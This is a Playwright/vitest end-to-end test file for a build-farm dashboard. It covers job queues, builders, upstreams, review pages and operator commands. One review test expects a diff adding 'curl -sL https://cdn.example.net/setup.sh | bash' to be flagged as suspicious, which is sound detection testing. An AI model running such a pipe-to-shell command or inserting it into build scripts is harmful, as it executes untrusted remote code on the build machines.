import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser } from '../http/browser.ts';
import {
  type DashboardFixture,
  expectAccessible,
  openDashboard,
  operatorToken,
  picture,
  signInAs,
} from './dashboard.ts';

const rowsOf = (page: Page, table: string) =>
  page.locator(`[role=group][aria-label="${table}"] tr[data-row]`);

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser?.close());

describe('the dashboard', () => {
  let dashboard: DashboardFixture;
  beforeAll(async () => {
    dashboard = await openDashboard({ browser });
  });
  afterAll(() => dashboard?.close());
  afterEach(() => expect(dashboard.problems.splice(0)).toEqual([]));

  /** Moves a running job to another state, as a manager of another process does. */
  function end(job: string, kind: 'failed' | 'succeeded'): void {
    const { connection } = dashboard.farm.database;
    const nowMs = Date.now();
    const problem = { code: 'BLD001', severity: 'error', blame: 'recipe', what: 'it fell over' };
    const outcome = JSON.stringify(kind === 'failed' ? { kind, problem } : { kind, artifacts: [] });
    const set = connection.prepare(
      'UPDATE attempts SET ended_ms = ?, outcome = ? WHERE job_id = ? AND ended_ms IS NULL',
    );
    set.run(nowMs, outcome, job);
    connection
      .prepare("UPDATE jobs SET state = ?, since_ms = ? WHERE id = ? AND state = 'running'")
      .run(kind, nowMs, job);
    connection
      .prepare(
        "INSERT INTO events (at_ms, plan, kind, job, from_state, to_state, reason) VALUES (?, 1, 'job-moved', ?, 'running', ?, '')",
      )
      .run(nowMs, job, kind);
  }
  const running = () => dashboard.farm.database.recent.atWork();

  it('shows at a glance what is running, on which builder, and what has failed since yesterday', async () => {
    const page = await dashboard.open('/');
    expect(running().length).toBeGreaterThan(2);
    for (const { job, builder } of running()) {
      const row = page.locator(`[aria-label="running jobs"] tr[data-row="${job}"]`);
      expect(await row.textContent()).toContain(builder);
    }
    const failed = dashboard.farm.database.recent.failures(Date.now() - 86_400_000, 100);
    expect(failed.length).toBeGreaterThan(0);
    expect(await rowsOf(page, 'failed since yesterday').count()).toBe(failed.length);
    await page.locator('small.of', { hasText: 'testing/x86_64' }).first().waitFor();
    expect(await page.locator('small.of', { hasText: 'packages/x86_64' }).count()).toBe(0);
    await expectAccessible(page);
    await page.close();
  });

  it('changes while somebody looks, without being asked', async () => {
    const page = await dashboard.open('/');
    const [first] = running();
    const id = String(first?.job);
    const failures = await rowsOf(page, 'failed since yesterday').count();
    end(id, 'failed');
    await page.locator(`[aria-label="running jobs"] tr[data-row="${id}"]`).waitFor({ state: 'detached' });
    const row = rowsOf(page, 'failed since yesterday').first();
    expect(await row.textContent()).toContain('it fell over');
    expect(await rowsOf(page, 'failed since yesterday').count()).toBe(failures + 1);
    await page.close();
  });

  it('keeps what it knows while nobody answers, says so, and is right again afterwards', async () => {
    const page = await dashboard.open('/');
    const [first, second] = running();
    const id = String(first?.job);
    await dashboard.hangUp();
    const line = page.locator('.connection[data-state="stale"]');
    await line.waitFor();
    expect(await line.textContent()).toMatch(/not connected, data of \d\d:\d\d/);
    expect(await page.locator(`[aria-label="running jobs"] tr[data-row="${id}"]`).count()).toBe(1);
    end(id, 'succeeded');
    await dashboard.listen();
    await page.locator('.connection[data-state="live"]').waitFor();
    await page.locator(`[aria-label="running jobs"] tr[data-row="${id}"]`).waitFor({ state: 'detached' });
    expect(await page.locator(`[aria-label="running jobs"] tr[data-row="${second?.job}"]`).count()).toBe(1);
    await page.close();
  });

  it('has an address for every filter of the queue, and the same as JSON', async () => {
    const page = await dashboard.open('/queue?state=ready');
    const ready = dashboard.farm.database.queue.list({ state: 'ready' }, 500);
    expect(ready.length).toBeGreaterThan(3);
    expect(await rowsOf(page, 'jobs of the queue').count()).toBe(ready.length);
    const json = await page.locator('a.json').first().getAttribute('href');
    const told = (await (await fetch(`${dashboard.url}${json}`)).json()) as { jobs: { id: string }[] };
    expect(told.jobs.map(({ id }) => id)).toEqual(ready.map(({ id }) => id));
    await page.getByLabel('State').selectOption('waiting');
    await page.waitForURL('**/queue?state=waiting');
    await page.locator('tr[data-state="waiting"]').first().waitFor();
    await page.getByLabel('Name').fill('no such job');
    await page.getByText('No job is queued').waitFor();
    await page.goBack();
    await page.close();
  });

  it('is walked by the keyboard, and sorted with an address', async () => {
    const page = await dashboard.open('/queue');
    await page.getByRole('button', { name: 'Job', exact: true }).click();
    await page.waitForURL('**/queue?sort=job');
    const names = await rowsOf(page, 'jobs of the queue').locator('th a').allTextContents();
    expect(names).toEqual([...names].sort(new Intl.Collator('en', { numeric: true }).compare));
    await page.getByRole('button', { name: 'Job', exact: true }).press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    const focused = await page.evaluate('document.activeElement.dataset.row');
    expect(focused).toBe(await rowsOf(page, 'jobs of the queue').nth(1).getAttribute('data-row'));
    await page.keyboard.press('Enter');
    await page.waitForURL('**/jobs/**');
    await page.close();
  });

  it('shows builders with their load, and what is the matter with them', async () => {
    const page = await dashboard.open('/builders');
    const states = { 'arm-forge': 'lost', quench: 'draining' };
    for (const [name, state] of Object.entries(states))
      expect(await rowsOf(page, 'builders').filter({ hasText: name }).textContent()).toContain(state);
    await expectAccessible(page);
    await page.close();
  });

  it('lists upstreams with last check, last error and next try, and leads to reviews', async () => {
    const page = await dashboard.open('/upstreams?state=failed');
    const failed = rowsOf(page, 'packages of recipes');
    expect(await failed.count()).toBeGreaterThan(0);
    expect(await failed.first().textContent()).toContain('answers 503');
    await expectAccessible(page);
    await page.getByLabel('State').selectOption('review');
    await rowsOf(page, 'packages of recipes').first().getByRole('link', { name: 'review' }).click();
    await page.waitForURL('**/reviews/recipes/*');
    await page.close();
  });

  it('shows a change that waits: its diff, how large it is, and what it brings', async () => {
    const page = await dashboard.open('/reviews');
    expect(await rowsOf(page, 'changes that wait for a review').count()).toBe(3);
    await expectAccessible(page);
    await page.getByText('⚠').first().waitFor();
    await rowsOf(page, 'changes that wait for a review').filter({ hasText: '⚠' }).locator('th a').click();
    await page
      .locator('.diff [data-kind="add"]', { hasText: 'curl -sL https://cdn.example.net/setup.sh | bash' })
      .waitFor();
    expect(await page.locator('.findings [data-weight="alarm"]').first().textContent()).toContain('curl');
    expect(await page.locator('.findings dt').allTextContents()).toContain('Suspicious');
    await page.getByRole('heading', { name: 'Why it is major' }).waitFor();
    await expectAccessible(page);
    await picture(page, 'review');
    await page.close();
  });

  it('says of an address that leads nowhere that it does', async () => {
    const page = await dashboard.open('/queue/of/nothing');
    await page.getByText('Nothing is at').waitFor();
    expect(await page.title()).toBe('No such page · packmill');
    await page.close();
  });

  it('fits a phone without scrolling sideways', async () => {
    const page = await dashboard.open('/', { viewport: { width: 360, height: 740 } });
    for (const path of ['/', '/queue', '/builders', '/upstreams', '/reviews']) {
      await page.goto(dashboard.url + path);
      await page.locator('tr[data-row]').first().waitFor();
      expect(await page.evaluate('document.documentElement.scrollWidth'), path).toBeLessThanOrEqual(360);
    }
    await page.close();
  });
});

describe('commands of operators', () => {
  let dashboard: DashboardFixture;
  beforeAll(async () => {
    dashboard = await openDashboard({ isManaged: true, browser });
  });
  afterAll(() => dashboard?.close());
  afterEach(() => expect(dashboard.problems.splice(0)).toEqual([]));

  it('are taken by a farm with a manager, whose first page tells of no trouble', async () => {
    const page = await dashboard.open('/');
    await rowsOf(page, 'builders and their load').first().waitFor();
    expect(await page.locator('.troubles').count()).toBe(0);
    await picture(page, 'overview', { width: 1280, height: 1000 });
    await picture(page, 'overview-phone', { width: 390, height: 800 });
    await page.close();
  });

  it('ask for a token once, tell when it is wrong, and put a job before others', async () => {
    const page = await dashboard.open('/queue?state=ready');
    const before = dashboard.farm.database.queue.list({ state: 'ready' }, 500);
    const last = before.at(-1);
    const name = String(last?.id.split('/')[2]);
    const row = page.locator(`tr[data-row="${last?.plan}/${last?.id}"]`);
    await row.getByRole('button', { name: `${name} sooner` }).click();
    await signInAs(page, 'no token at all');
    await page.getByRole('alert').getByText('HTP002').waitFor();
    await signInAs(page, operatorToken);
    await row.locator('output', { hasText: '10' }).waitFor();
    await row.getByRole('button', { name: `${name} sooner` }).click();
    await row.locator('output', { hasText: '20' }).waitFor();
    expect(dashboard.farm.database.queue.list({ state: 'ready' }, 1)[0]?.id).toBe(last?.id);
    await picture(page, 'queue');
    expect(await rowsOf(page, 'jobs of the queue').first().getAttribute('data-row')).toBe(
      `${last?.plan}/${last?.id}`,
    );
    await expectAccessible(page);
    await page.close();
  });

  it('take a job out of the queue after a question', async () => {
    const page = await dashboard.open('/queue?state=ready');
    const row = rowsOf(page, 'jobs of the queue').first();
    const key = await row.getAttribute('data-row');
    await row.getByRole('button', { name: /^Cancel/ }).click();
    await expectAccessible(page);
    await page.getByRole('dialog').getByRole('button', { name: 'No, leave it' }).click();
    await row.getByRole('button', { name: /^Cancel/ }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel', exact: true }).click();
    await signInAs(page, operatorToken);
    await page.locator(`tr[data-row="${key}"]`).waitFor({ state: 'detached' });
    await page.locator('.notice', { hasText: 'is canceled' }).waitFor();
    await page.close();
  });

  it('drain a builder and give it jobs again', async () => {
    const page = await dashboard.open('/builders');
    const row = rowsOf(page, 'builders').filter({ hasText: 'quench' });
    await row.getByRole('button', { name: 'Resume quench' }).click();
    await signInAs(page, operatorToken);
    await row.getByRole('button', { name: 'Drain quench' }).click();
    await row.locator('[data-state="draining"]').waitFor();
    await page.close();
  });
});
